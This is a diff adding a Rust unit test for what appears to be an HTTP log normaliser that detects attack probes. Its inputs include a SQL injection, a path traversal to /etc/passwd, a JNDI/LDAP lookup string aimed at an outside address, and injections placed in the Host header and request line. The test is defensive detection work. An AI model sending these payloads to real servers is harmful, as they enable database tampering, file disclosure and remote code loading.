@@ -53,6 +53,29 @@ fn attacks_are_named_through_encodings_and_redaction() {
 }
 
 #[test]
+fn neither_length_nor_a_second_protocol_nor_the_host_hides_an_attack() {
+    let long = "x".repeat(20_000);
+    let mut one = normaliser();
+    assert_eq!(probes(&mut one, &format!("/a?q={long}%27%20or%20%271%27=%271"), "curl/8", ""), ["sqli"]);
+    assert_eq!(probes(&mut one, &format!("/a/{long}é/../../etc/passwd"), "curl/8", ""), ["traversal"]);
+    assert_eq!(probes(&mut one, "/", &format!("{long} ${{jndi:ldap://192.0.2.1/a}}"), ""), ["jndi"]);
+    assert_eq!(probes(&mut one, &format!("/a?q={long}&b=1"), &long, ""), [""; 0]);
+    let of_record = |record: Value| {
+        let mut raw = RawBatch::new();
+        raw.push(0, 0, record.to_string().as_bytes());
+        event_json(&normaliser().normalise(&Lane::new("probes", 0), &raw).events, 0)["probes"].clone()
+    };
+    let base = |more: (&str, &str)| {
+        let mut record = json!({"msec": 1_790_000_000, "remote_addr": "203.0.113.7", "status": 200});
+        record[more.0] = more.1.into();
+        record
+    };
+    assert_eq!(of_record(base(("http_host", "a.example' or 1=1--"))), json!(["sqli"]));
+    assert_eq!(of_record(base(("http_host", "api.shop.example:8443"))), Value::Null);
+    assert_eq!(of_record(base(("request", "GET /x HTTP/1.1' or '1'='1 HTTP/1.1"))), json!(["sqli"]));
+}
+
+#[test]
 fn ordinary_requests_are_not() {
     let mut normaliser = normaliser();
     for target in [
